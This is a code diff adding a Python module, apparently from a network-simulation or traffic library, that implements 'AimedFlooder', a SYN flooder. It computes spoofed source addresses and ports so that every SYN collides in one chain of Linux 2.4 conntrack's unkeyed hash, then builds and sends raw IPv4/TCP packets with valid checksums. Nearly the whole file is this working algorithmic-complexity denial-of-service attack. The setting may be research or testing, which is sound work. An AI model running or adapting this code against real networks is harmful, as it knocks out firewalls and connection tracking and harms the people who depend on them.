@@ -1,0 +1,96 @@
+"""SYNs that all fall into one chain of a hash without a key: its sender needs to know the hash, and nothing else.
+
+Conntrack of Linux 2.4 adds up the words of a flow as they lie in memory, and its port; the remainder is the chain. So
+for any port there are addresses that give the chain that is wanted. Facts: conntrack 1.2; Crosby and Wallach, "Denial
+of Service via Algorithmic Complexity Attacks" (2003).
+"""
+
+from __future__ import annotations
+
+import random
+import struct
+from typing import TYPE_CHECKING
+
+from pystack._fast.consts import PROTO_TCP, SYN
+from pystack.addresses import parse_host, parse_network
+from pystack.traffic.flooder import SynFlooder
+
+if TYPE_CHECKING:
+    from pystack.network import Network
+    from pystack.sockets import Address
+    from pystack.tap import Tap
+
+WORD = 0xFFFFFFFF
+HEAD = struct.Struct("!BBHHHBBH4s4s")
+TCP = struct.Struct("!HHIIBBHHH")
+
+
+def swapped(word: int, octets: int) -> int:
+    """A word in network order as a little-endian machine reads it."""
+    return int.from_bytes(word.to_bytes(octets, "big"), "little")
+
+
+def checksum(data: bytes) -> int:
+    """RFC 1071, of an even number of octets."""
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    total = (total & 0xFFFF) + (total >> 16)
+    return ~(total + (total >> 16)) & 0xFFFF
+
+
+class AimedFlooder(SynFlooder):
+    """A `SynFlooder` whose SYNs, from addresses of `sources`, fall into chain `chain` of `chains`."""
+
+    def __init__(
+        self,
+        net: Network,
+        tap: Tap,
+        target: Address,
+        *,
+        rate: int,
+        chain: int,
+        chains: int,
+        sources: str = "128.0.0.0/2",
+        seed: int = 1,
+    ) -> None:
+        super().__init__(net, tap, target, rate=rate, sources=sources, seed=seed)
+        if not 0 <= chain < chains:
+            raise ValueError(f"there is no chain {chain} among {chains}")
+        self.chain = chain
+        self.chains = chains
+        self._network, prefix = parse_network(sources)
+        self._mask = WORD << (32 - prefix) & WORD
+        self._to = parse_host(target[0]), target[1]
+        self._dice = random.Random(seed)
+        self._sent = 0
+
+    @property
+    def sent(self) -> int:
+        """SYNs so far."""
+        return self._sent
+
+    def source(self) -> tuple[int, int]:
+        """An address and a port that give the chain."""
+        dst, dport = self._to
+        while True:
+            port = self._dice.randrange(1024, 65536)
+            wanted = self._dice.randrange(WORD // self.chains) * self.chains + self.chain
+            total = swapped(wanted - port & WORD, 4)
+            rest = swapped(dst, 4) + swapped(port, 2) + swapped(dport, 2) + PROTO_TCP
+            addr = swapped(total - rest & WORD, 4)
+            if addr & self._mask == self._network:
+                return addr, port
+
+    def send(self, n: int) -> None:
+        for _ in range(n):
+            addr, port = self.source()
+            self.tap.send(self._syn(addr, port))
+            self._sent += 1
+
+    def _syn(self, addr: int, port: int) -> bytes:
+        dst, dport = self._to
+        ends = addr.to_bytes(4, "big"), dst.to_bytes(4, "big")
+        first = port, dport, self._dice.randrange(WORD), 0, TCP.size // 4 << 4, SYN, 64240
+        pseudo = b"".join(ends) + struct.pack("!HH", PROTO_TCP, TCP.size)
+        tcp = TCP.pack(*first, checksum(pseudo + TCP.pack(*first, 0, 0)), 0)
+        head = 0x45, 0, HEAD.size + TCP.size, 0, 0x4000, 64, PROTO_TCP
+        return HEAD.pack(*head, checksum(HEAD.pack(*head, 0, *ends)), *ends) + tcp
